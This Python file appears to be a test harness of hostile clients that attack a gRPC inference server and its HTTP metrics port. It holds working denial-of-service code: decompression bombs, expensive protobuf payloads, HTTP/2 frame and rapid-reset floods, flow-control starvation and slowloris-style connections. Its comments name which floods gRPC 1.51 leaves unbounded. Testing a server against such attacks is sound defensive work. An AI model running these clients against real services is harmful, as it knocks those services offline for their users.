"""Clients that mean harm, each a process: `python hostile.py ATTACK GRPC_ADDRESS HTTP_ADDRESS SECONDS`.

Each repeats its attack until its time is over, opens a connection anew when the server has ended it, and holds little memory itself. At its
end it writes how often it got through.
"""

import contextlib
import itertools
import socket
import struct
import sys
import time
import zlib

import http2
from flow_control import FlowConnection, claim, window_setting
from http2 import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, frame

MIB = 1 << 20
PREDICT = "/torchferry.v1.InferenceService/Predict"
INFER = "/inference.GRPCInferenceService/ModelInfer"


# --- protobuf by hand -----------------------------------------------------------------------------


def varint(value):
    out = b""
    while value >= 128:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def bytes_field(number, content):
    return varint(number << 3 | 2) + varint(len(content)) + content


def tensor(shape, data, dtype=12):
    return b"\x08" + varint(dtype) + bytes_field(2, b"".join(varint(size) for size in shape)) + bytes_field(3, data)


def predict(model, inputs, outputs=()):
    """A PredictRequest; inputs are encoded tensors by name."""
    body = bytes_field(1, model.encode())
    for name, encoded in inputs.items():
        body += bytes_field(3, bytes_field(1, name.encode()) + bytes_field(2, encoded))
    return body + b"".join(bytes_field(4, name.encode()) for name in outputs)


def product(size):
    """Its answer is as large as its one input."""
    ones = struct.pack("<f", 1.0) * (size // 4)
    return predict("product", {"values": tensor([size // 4], ones), "factor": tensor([1], struct.pack("<q", 2), dtype=9)})


def bomb(size):
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(MIB)
    out = [compressor.compress(b"\x22" + varint(size))]
    out += [compressor.compress(block) for _ in range(size // MIB)]
    return b"".join([*out, compressor.flush()])


# --- attacks on gRPC ------------------------------------------------------------------------------
# Each is given the addresses and a function that says whether to go on, and yields after each attempt.


def send_all(connection, path, data, **fields):
    """A whole request, and waits for its end."""
    stream = connection.open(path, **fields)
    connection.write(stream, data, end=True, seconds=2)
    connection.wait_for_end(stream, 5)


def costs(address, _, goes_on):
    """Requests that are small to send and long to look through."""
    x = struct.pack("<4f", 1, 2, 3, 4)
    bodies = [
        predict("mlp", {"x": tensor([1] * 100_000, x)}),
        predict("mlp", {"x": tensor([1, 4], x)}, ["probabilities"] * 10_000),
        predict("mlp", {"x": tensor([1 << 62, 1 << 62], x)}),
        predict("mlp", {f"x{i}": tensor([1, 4], x) for i in range(5000)}),
        predict("product", {"values": tensor([1 << 40], x), "factor": tensor([0], b"", dtype=9)}),
        predict("m" * 500_000, {"x": tensor([1, 4], x)}),
        b"\x22\x00" * 500_000,
        b"\x1a" + varint(4 * MIB) + bytes(4 * MIB),
    ]
    while goes_on():
        with FlowConnection(address) as connection:
            for body in bodies:
                send_all(connection, PREDICT, claim(len(body)) + body)
                yield
            infer = b"\x2a\x00" * 30_000
            send_all(connection, INFER, claim(len(infer)) + infer)
            yield


def bombs(address, _, goes_on):
    data = bomb(64 * MIB)
    while goes_on():
        with FlowConnection(address) as connection:
            send_all(connection, PREDICT, claim(len(data), compressed=True) + data, grpc_encoding="gzip")
        yield


def unfinished(address, _, goes_on):
    """Messages of 8 MiB, less their end."""
    block = bytes(MIB)
    while goes_on():
        with FlowConnection(address) as connection:
            for _ in range(60):
                stream = connection.open(PREDICT)
                connection.write(stream, claim(8 * MIB), seconds=1)
                for _ in range(7):
                    if not goes_on() or connection.write(stream, block, seconds=1) < MIB:
                        break
                if not connection.is_open or not goes_on():
                    break
                yield


def claims(address, _, goes_on):
    """Messages that say they have 4 GiB."""
    block = bytes(MIB)
    while goes_on():
        with FlowConnection(address) as connection:
            stream = connection.open(PREDICT)
            connection.write(stream, claim((1 << 32) - 1), seconds=1)
            while goes_on() and connection.write(stream, block, seconds=1) == MIB:
                yield
        yield


def unread(address, _, goes_on):
    """Answers that are never granted a byte."""
    data = product(4 * MIB)
    while goes_on():
        with FlowConnection(address, settings=window_setting(0), receive_buffer=4096) as connection:
            for _ in range(40):
                stream = connection.open(PREDICT)
                connection.write(stream, claim(len(data)) + data, end=True, seconds=1)
                if not connection.is_open or not goes_on():
                    break
                yield
            held_until = time.monotonic() + 2
            while goes_on() and time.monotonic() < held_until:
                connection.pump(0.1)


def flood(address, goes_on, floods):
    """Each of `floods` makes the bytes that a connection is sent, of the number of its next stream."""
    for make in itertools.cycle(floods):
        if not goes_on():
            return
        with FlowConnection(address) as connection:
            for _ in range(5):
                connection.put(make(connection.next_stream()))
                connection.pump(0)
                yield
                if not connection.is_open or not goes_on():
                    break


HEADER_BLOCK = http2.call_fields(PREDICT)


def frames(address, _, goes_on):
    """Floods of frames that cost their sender little, and headers that are too large."""
    more = http2.field("x" * 60, "y" * 60)
    yield from flood(address, goes_on, [
        lambda _: frame(PING, 0, 0, bytes(8)) * 10_000,
        lambda _: frame(SETTINGS, 0, 0) * 10_000,
        lambda stream: frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK) + frame(DATA, 0, stream) * 10_000,
        lambda stream: frame(HEADERS, 0, stream, HEADER_BLOCK) + frame(CONTINUATION, END_HEADERS, stream, more * 100),
    ])


def endless(address, _, goes_on):
    """Header blocks without end, and calls that are reset at once."""
    reset = struct.pack(">I", http2.CANCEL)
    yield from flood(address, goes_on, [
        lambda stream: frame(HEADERS, 0, stream, HEADER_BLOCK) + frame(CONTINUATION, 0, stream) * 10_000,
        lambda stream: b"".join(frame(HEADERS, END_HEADERS, each, HEADER_BLOCK) + frame(RST_STREAM, 0, each, reset)
                                for each in range(stream, stream + 2000, 2)),
    ])


# --- attacks on both ports ------------------------------------------------------------------------


def connections(address, http_address, goes_on):
    """Connections that say nothing, or drip their first bytes."""
    held = []
    for each in itertools.cycle((address, http_address)):
        if not goes_on():
            break
        host, port = each.rsplit(":", 1)
        with contextlib.suppress(OSError):
            held.append(socket.create_connection((host, int(port)), 1))
            held[-1].sendall(http2.PREFACE[:1] if each == address else b"G")
        if len(held) >= 300:
            for old in held[:100]:
                old.close()
            held = held[100:]
        yield


def posts(_, http_address, goes_on):
    """Bodies without end, headers that drip, and heads that are too long, to the port of /metrics."""
    host, port = http_address.rsplit(":", 1)
    head = b"POST /metrics HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunk = b"10000\r\n" + bytes(65536) + b"\r\n"
    drips = []
    for kind in itertools.cycle(range(4)):
        if not goes_on():
            break
        with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 1) as connection:
            connection.settimeout(1)
            if kind == 0:
                connection.sendall(head)
                for _ in range(500):
                    connection.sendall(chunk)
                    yield
                    if not goes_on():
                        break
            elif kind == 1:
                connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX: " + b"y" * MIB)
            elif kind == 2:
                connection.sendall(b"POST /livez HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n")
                connection.sendall(bytes(4 * MIB))
            else:
                drip = socket.create_connection((host, int(port)), 1)
                drip.sendall(b"GET /livez HTTP/1.1\r\nX")
                drips = [*drips[-50:], drip]
        yield


ATTACKS = {attack.__name__: attack for attack in (costs, bombs, unfinished, claims, unread, connections, posts)}
# What gRPC 1.51 does not bound: frames that come as fast as a processor can send them keep the thread that reads them from all others.
UNBOUNDED = {attack.__name__: attack for attack in (frames, endless)}


def main(name, address, http_address, seconds):
    end = time.monotonic() + float(seconds)
    attempts = errors = 0
    while time.monotonic() < end:
        try:
            for _ in (ATTACKS | UNBOUNDED)[name](address, http_address, lambda: time.monotonic() < end):
                attempts += 1
        except OSError:  # the server does not take a connection
            errors += 1
            time.sleep(0.01)
    print(f"{name}: {attempts} attempts, {errors} times without a connection")


if __name__ == "__main__":
    main(*sys.argv[1:])
